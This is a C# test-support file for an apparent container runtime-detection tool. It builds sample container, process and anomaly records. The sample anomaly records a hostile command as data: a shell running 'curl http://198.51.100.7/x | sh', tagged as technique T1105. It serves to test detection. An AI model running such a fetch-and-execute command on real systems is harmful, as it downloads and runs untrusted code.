using RuntimeGuard.Proto;
using Record = RuntimeGuard.Proto.Record;

namespace RuntimeGuard.Tests.Support;

/// <summary>Anomalies and records with every field an agent fills.</summary>
static class CollectorItems
{
    public static long NowNs => (DateTimeOffset.UtcNow - DateTimeOffset.UnixEpoch).Ticks * 100;

    public static Container Container(string id = "c0ffee", string ns = "shop", string image = "docker.io/library/nginx") => new()
    {
        Id = id,
        Workload = new Workload { Namespace = ns, Image = image },
        Name = "web",
        Pod = "web-1",
        Tag = "1.25",
        Digest = "sha256:abc",
        Runtime = "cri",
    };

    public static Process Process(int pid = 100, string exe = "/usr/bin/curl", params string[] args) => new()
    {
        Pid = pid,
        StartUnixNs = 1_700_000_000_000_000_000 + pid,
        ParentPid = 1,
        ParentStartUnixNs = 1_700_000_000_000_000_000,
        Exe = exe,
        Comm = exe.Split('/')[^1],
        Args = { args },
        SeenFromBirth = true,
    };

    public static Anomaly Anomaly(int lineage = 100, double score = 0.01, string rule = "", Container? container = null, long timeNs = 0) => new()
    {
        TimeUnixNs = timeNs == 0 ? NowNs : timeNs,
        Container = container ?? Container(),
        Process = Process(lineage + 1, "/usr/bin/curl", "curl", "http://198.51.100.7/x"),
        Ancestors = { Process(lineage, "/bin/sh", "sh", "-c", "curl http://198.51.100.7/x | sh") },
        Kind = EventKind.Exec,
        Class = BehaviourClass.Exec,
        Subject = "/usr/bin/curl",
        Behaviour = "nginx > sh -> /usr/bin/curl",
        Summary = "nginx started curl through a shell, which it never did",
        Rule = rule,
        Technique = "T1105",
        Explanation = new Explanation { Score = score, ClassRatePerDay = 0.2, Mark = "net-tool", State = "locked" },
        LineagePid = lineage,
        LineageStartUnixNs = 1_700_000_000_000_000_000 + lineage,
        TimeScale = 1,
    };

    public static Record Exec(string container, int pid, string exe, long timeNs, params string[] args) => new()
    {
        Exec = new ProcessExec { ContainerId = container, TimeUnixNs = timeNs, Process = Process(pid, exe, args) },
    };
}
